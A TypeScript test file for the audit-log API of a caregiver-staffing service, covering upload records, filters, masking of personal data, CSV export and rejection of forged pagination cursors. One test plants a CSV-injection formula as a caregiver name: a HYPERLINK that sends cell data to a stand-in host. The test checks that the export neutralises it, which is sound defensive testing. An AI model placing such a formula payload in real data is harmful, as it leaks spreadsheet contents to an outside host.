import { GetCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { saoPauloIsoDay } from '../../contract/sao-paulo-time';
import type { AuditEntry, AuditPage, TeamCaregiverSearchPage } from '../../contract/team';
import { SAMPLE_ACCOUNT, SAMPLE_OPERATOR } from '../../infra/local/sample-data';
import { createReadyCaregiver } from '../../infra/local/seed';
import { caregiverKey } from '../../lambdas/caregivers/data/caregivers';
import { db, tableName } from '../../lambdas/base/table/client';
import { auditLine } from '../../lambdas/team/audit';
import { appendAudit } from '../../lambdas/team/data/table';
import { api, signInOperator, useLocalStack } from './helpers/local-stack';

const stack = useLocalStack({ seed: true });
let operator: string;
beforeAll(async () => {
  operator = (await signInOperator(stack(), SAMPLE_OPERATOR)).accessToken;
});

const registro = async (query = '') => (await api(stack(), `/api/equipe/registro${query}`, { token: operator })).json as unknown as AuditPage;
const linesOfFile = async (name: string) => (await registro('?acao=arquivo-importado')).entries.filter((e) => e.details?.arquivo === name);
const upload = (query: Record<string, string | number>, json: unknown) => api(stack(), `/api/equipe/vagas/arquivo?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`, { method: 'POST', json, token: operator });
const family = (id: string) => ({ families: [{ id, name: `Família ${id}` }], openings: [{ id: `${id}-vaga`, clientId: id, createdAt: '2026-11-22T10:00:00Z' }], notices: [] });

describe('the Registro: one line per action, never bent', () => {
  it('a file in two parts whose second part is refused leaves one line, pending, with its name and the first part counted; a retried part counts once', async () => {
    const name = 'vagas-meio.csv';
    const first = await upload({ arquivo: name, envio: 'envio-meio-0001', parte: 1, partes: 2 }, family('familia-registro-1'));
    expect(first.status).toBe(200);
    // the same part again (a retry): the same state, the same line
    expect((await upload({ arquivo: name, envio: 'envio-meio-0001', parte: 1, partes: 2 }, family('familia-registro-1'))).status).toBe(200);
    const refused = await upload({ arquivo: name, envio: 'envio-meio-0001', parte: 2, partes: 2 }, { ...family('familia-registro-2'), notices: [{ mensagem: 'de um arquivo' }] });
    expect(refused.status).toBe(400);
    const lines = await linesOfFile(name);
    expect(lines).toEqual([
      expect.objectContaining({ actorLabel: SAMPLE_OPERATOR.email, state: 'pendente', details: { arquivo: name, partes: 2, familias: 1, vagas: 1, recusados: 0 } }),
    ]);
  });

  it('a file sent whole in two parts is one line, concluded, its counts added up, kept five years (TTL)', async () => {
    const name = 'vagas-inteiro.csv';
    for (const [i, id] of ['familia-registro-3', 'familia-registro-4'].entries()) {
      expect((await upload({ arquivo: name, envio: 'envio-inteiro-01', parte: i + 1, partes: 2 }, family(id))).status).toBe(200);
    }
    const [line, ...more] = await linesOfFile(name);
    expect(more).toEqual([]);
    expect(line).toMatchObject({ state: 'concluida', details: { arquivo: name, partes: 2, familias: 2, vagas: 2, recusados: 0 } });
    const item = (await db().send(new GetCommand({ TableName: tableName(), Key: { PK: 'AUDIT', SK: `${line.at}#${line.id}` } }))).Item!;
    const years = (Number(item.expiresAt) * 1000 - Date.parse(line.at)) / (365.25 * 86_400_000);
    expect(years).toBeCloseTo(5, 1);
  });

  it('filters by action, by operator (part of her e-mail) and by São Paulo dates; bad filters are 400s in Portuguese', async () => {
    const byAction = await registro('?acao=arquivo-importado');
    expect(byAction.entries.length).toBeGreaterThanOrEqual(2);
    expect(new Set(byAction.entries.map((e) => e.action))).toEqual(new Set(['arquivo-importado']));
    expect((await registro(`?operador=${SAMPLE_OPERATOR.email.split('@')[0]}`)).entries.length).toBeGreaterThan(0);
    expect((await registro('?operador=ninguem.aqui')).entries).toEqual([]);
    // The days of the lines themselves, in São Paulo: 'today' read here could be the day after lines written before a
    // midnight in São Paulo (this file's uploads, and the seed's, up to a template slot earlier).
    const days = byAction.entries.map((e) => saoPauloIsoDay(e.at)).sort();
    expect((await registro(`?acao=arquivo-importado&de=${days[0]}&ate=${days[days.length - 1]}`)).entries.length).toBe(byAction.entries.length);
    expect((await registro('?acao=arquivo-importado&ate=2020-01-01')).entries).toEqual([]);
    const order = await api(stack(), '/api/equipe/registro?de=2026-11-20&ate=2026-11-01', { token: operator });
    expect({ status: order.status, body: order.json }).toEqual({ status: 400, body: { message: 'A data final deve ser igual ou posterior à inicial.', field: 'ate' } });
    const action = await api(stack(), '/api/equipe/registro?acao=apagar-tudo', { token: operator });
    expect({ status: action.status, body: action.json }).toEqual({ status: 400, body: { message: 'Escolha uma ação da lista.', field: 'acao' } });
  });
});

describe('reads of personal data, recorded with the operator', () => {
  const hostile = '=HYPERLINK("http://x.example/?"&A1,"Clique")';
  let uid: string;
  beforeAll(async () => {
    uid = await createReadyCaregiver(stack(), { ...SAMPLE_ACCOUNT, name: 'Zélia Registro', email: 'zelia.registro@exemplo.com.br', phone: '61987651234' });
  });

  it("'Cuidadoras' results mask e-mail and phone and record the search; her page shows them and records its opening", async () => {
    const found = (await api(stack(), '/api/equipe/cuidadoras?busca=Z%C3%A9lia', { token: operator })).json as unknown as TeamCaregiverSearchPage;
    expect(found.items).toEqual([expect.objectContaining({ uid, name: 'Zélia Registro', email: 'z***@e***.br', phone: '(61) *****-1234' })]);
    const [search] = (await registro('?acao=cuidadoras-buscadas')).entries;
    expect(search).toMatchObject({ actorLabel: SAMPLE_OPERATOR.email, details: { busca: 'Zélia', resultados: 1 } });

    const page = await api(stack(), `/api/equipe/cuidadoras/${uid}`, { token: operator });
    expect(page.json).toMatchObject({ email: 'zelia.registro@exemplo.com.br', phone: '61987651234' });
    const [opened] = (await registro('?acao=cuidadora-consultada')).entries;
    expect(opened).toMatchObject({ actorLabel: SAMPLE_OPERATOR.email, targetId: uid, targetLabel: 'Zélia Registro' });
  });

  it("'Baixar CSV' for a filtered range: BOM, `;`, only that action, a name that is a formula neutralised; the download is recorded", async () => {
    await db().send(new UpdateCommand({ TableName: tableName(), Key: caregiverKey(uid), UpdateExpression: 'SET #n = :n', ExpressionAttributeNames: { '#n': 'name' }, ExpressionAttributeValues: { ':n': hostile } }));
    expect((await api(stack(), `/api/equipe/cuidadoras/${uid}/verificacao`, { method: 'POST', token: operator })).status).toBe(200);
    const csv = await api(stack(), '/api/equipe/registro.csv?acao=conta-verificada', { token: operator });
    expect(csv.text.startsWith('\uFEFFquando;quem;ação;alvo;detalhes;situação\r\n')).toBe(true);
    const lines = csv.text.slice(1).trim().split('\r\n').slice(1);
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.every((l) => l.includes(`;${SAMPLE_OPERATOR.email};Conta marcada como verificada;`))).toBe(true);
    expect(lines[0]).toContain(`;"'=HYPERLINK(""http://x.example/?""&A1,""Clique"")";`);
    expect(csv.text).not.toMatch(/;=HYPERLINK/);
    const [download] = (await registro('?acao=registro-baixado')).entries as AuditEntry[];
    expect(download).toMatchObject({ actorLabel: SAMPLE_OPERATOR.email, details: { filtros: 'acao=conta-verificada' } });
  });
});

describe("the Registro's cursors are the server's own (issue 41)", () => {
  const refused = { status: 400, body: { message: 'O cursor de paginação é inválido.', field: 'cursor' } };
  const get = async (path: string) => {
    const res = await api(stack(), path, { token: operator });
    return { status: res.status, body: res.json, text: res.text, next: res.headers.get('x-next-cursor') };
  };
  // 60 lines on 2026-10-10 (São Paulo), more than a page of 50: the day's first page has a cursor.
  beforeAll(async () => {
    const robot = { id: 'registro-cursor-test', label: 'robo@exemplo.com.br' };
    for (let i = 0; i < 60; i++) await appendAudit(auditLine(robot, { action: 'conta-verificada', details: { i } }, new Date(Date.UTC(2026, 9, 10, 12, 0, i))));
  });

  it('a cursor of one date range used with another (its key out of that range) is a 400, never a 500', async () => {
    const first = await get('/api/equipe/registro?de=2026-10-10&ate=2026-10-10');
    expect(first.status).toBe(200);
    const cursor = (first.body as unknown as AuditPage).cursor!;
    expect(cursor).toEqual(expect.any(String));
    // the same query goes on: the last 10 lines of the day
    expect(((await get(`/api/equipe/registro?de=2026-10-10&ate=2026-10-10&cursor=${cursor}`)).body as unknown as AuditPage).entries).toHaveLength(10);
    for (const other of ['de=2026-10-11&ate=2026-10-12', 'de=2026-10-01&ate=2026-10-05', 'de=2026-10-10', 'acao=conta-verificada&de=2026-10-10&ate=2026-10-10', '']) {
      const res = await get(`/api/equipe/registro?${other}&cursor=${cursor}`);
      expect({ status: res.status, body: res.body }).toEqual(refused);
    }
  });

  it('an unsigned cursor naming a real line, or the signed one edited, is a 400', async () => {
    const cursor = ((await get('/api/equipe/registro?de=2026-10-10&ate=2026-10-10')).body as unknown as AuditPage).cursor!;
    const [body, mac] = cursor.split('.');
    const key = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, string>;
    const moved = Buffer.from(JSON.stringify({ ...key, SK: key.SK.replace('12:00:', '12:01:') })).toString('base64url');
    for (const bad of [body, `${moved}.${mac}`, `${body}.${mac.slice(0, -2)}AA`]) {
      const res = await get(`/api/equipe/registro?de=2026-10-10&ate=2026-10-10&cursor=${bad}`);
      expect({ status: res.status, body: res.body }).toEqual(refused);
    }
  });

  it("'Baixar CSV' writes its own line for every part, the one asked for with a cursor too (even the list's cursor of the same query); an unsigned one is refused", async () => {
    const downloads = async () => (await registro('?acao=registro-baixado')).entries.filter((e) => e.details?.filtros === 'de=2026-10-10 ate=2026-10-10');
    const pageCursor = ((await get('/api/equipe/registro?de=2026-10-10&ate=2026-10-10')).body as unknown as AuditPage).cursor!;
    // The list's cursor names the same query: accepted, and the part is recorded like any other.
    const viaPageCursor = await get(`/api/equipe/registro.csv?de=2026-10-10&ate=2026-10-10&cursor=${pageCursor}`);
    expect(viaPageCursor.status).toBe(200);
    expect(viaPageCursor.text.trim().split('\r\n')).toHaveLength(10);
    expect(await downloads()).toEqual([expect.objectContaining({ actorLabel: SAMPLE_OPERATOR.email, details: { filtros: 'de=2026-10-10 ate=2026-10-10', parte: 'continuação', linhas: 10 } })]);
    const whole = await get('/api/equipe/registro.csv?de=2026-10-10&ate=2026-10-10');
    expect(whole.status).toBe(200);
    expect(whole.next).toBeNull();
    expect(await downloads()).toHaveLength(2);
    const forged = await get(`/api/equipe/registro.csv?de=2026-10-10&ate=2026-10-10&cursor=${pageCursor.split('.')[0]}`);
    expect({ status: forged.status, body: forged.body }).toEqual(refused);
    expect(await downloads()).toHaveLength(2);
  });
});
